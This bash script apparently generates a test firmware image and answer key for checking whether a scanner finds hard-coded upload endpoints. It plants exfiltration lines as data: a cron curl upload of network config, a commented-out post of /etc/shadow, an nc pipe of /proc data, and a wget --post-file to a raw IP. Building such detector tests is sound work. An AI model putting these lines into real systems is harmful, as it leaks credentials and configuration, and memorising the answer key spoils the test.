#!/usr/bin/env bash
# Accuracy image for the hard-coded endpoints (CB-NET): data sent out in three forms (a cron
# job posting a file with curl, a script piping /proc data into nc through a variable, a
# diagnostics script with wget --post-file) and plain endpoints in configuration and in a
# program (info findings, observations for the pledge). Decoys: the same uploads to a
# documentation address, a private address and an endpoint the allow list accepts
# (OUTDIR/allow.txt through OUTDIR/args), a version number that looks like an address, and a
# commented-out upload.
#   endpoints.sh OUTDIR   -> OUTDIR/rootfs, OUTDIR/expected.tsv, OUTDIR/allow.txt, OUTDIR/args
set -euo pipefail
OUT=$1
R=$OUT/rootfs
mkdir -p "$R"/{etc/crontabs,etc/config,usr/bin,usr/sbin} "$OUT/src"
command -v gcc >/dev/null || { echo "endpoints.sh: gcc not found" >&2; exit 1; }

cat >"$R/etc/crontabs/root" <<'EOF'
# */30 * * * * curl -F f=@/etc/shadow http://old-collector.vendor-telemetry.com/u
*/5 * * * * curl -s -F "cfg=@/etc/config/network" https://collect.vendor-telemetry.com/upload
0 3 * * * /usr/bin/upload_stats.sh
EOF
cat >"$R/usr/bin/upload_stats.sh" <<'EOF'
#!/bin/sh
REMOTE="stats.cloudreport.cn"
cat /proc/net/arp /proc/cpuinfo | nc $REMOTE 9000
EOF
cat >"$R/usr/sbin/diag.sh" <<'EOF'
#!/bin/sh
wget -q --post-file=/etc/config/system \
  http://45.33.32.156/diag/submit
EOF
# Decoys: uploads to a documentation address, a private address, an allowed endpoint, and an
# address-like version number in a header.
cat >"$R/usr/bin/decoy_uploads.sh" <<'EOF'
#!/bin/sh
curl -d @/proc/uptime http://192.0.2.10/in
nc 192.168.1.10 514 < /var/log/messages
curl -F "log=@/var/log/messages" https://logs.operator-allowed.net/in
curl -F "f=@/etc/release" -H "X-Version: 1.2.3.4" http://10.0.0.5/
EOF
cat >"$R/etc/version" <<'EOF'
VERSION=1.2.3.4
BUILD=2024.06.01
EOF
cat >"$R/etc/ntp.conf" <<'EOF'
server time.vendor-cloud.com iburst
server 192.168.1.1
EOF
cat >"$R/etc/config/docs.conf" <<'EOF'
option help_url 'https://www.example.com/help'
option test_server '198.51.100.7'
EOF
cat >"$OUT/src/agent.c" <<'EOF'
#include <stdio.h>
static const char *const kStrings[] = {
  "https://api.telemetry-cn.com/v1/report", "libfoo.so.1", "version 2.6.32.1", "10.0.0.1",
};
int main(int argc, char **argv) {
  (void)argv;
  puts(kStrings[(unsigned)argc % 4]);
  return 0;
}
EOF
gcc -O1 -o "$R/usr/bin/agent" "$OUT/src/agent.c"

printf 'endpoint *.operator-allowed.net\n' >"$OUT/allow.txt"
printf -- '--allow\n%s\n' "$OUT/allow.txt" >"$OUT/args"

P=$'\t'
cat >"$OUT/expected.tsv" <<EX
planted${P}CB-NET-002${P}/etc/crontabs/root${P}collect.vendor-telemetry.com
planted${P}CB-NET-002${P}/usr/bin/upload_stats.sh${P}stats.cloudreport.cn
planted${P}CB-NET-002${P}/usr/sbin/diag.sh${P}45.33.32.156
note${P}CB-NET-001${P}/etc/ntp.conf${P}time.vendor-cloud.com
note${P}CB-NET-001${P}/usr/bin/agent${P}api.telemetry-cn.com
observed${P}endpoint${P}collect.vendor-telemetry.com
observed${P}endpoint${P}stats.cloudreport.cn
observed${P}endpoint${P}45.33.32.156
observed${P}endpoint${P}time.vendor-cloud.com
observed${P}endpoint${P}api.telemetry-cn.com
decoy${P}/usr/bin/decoy_uploads.sh
decoy${P}/etc/version
decoy${P}/etc/config/docs.conf
EX
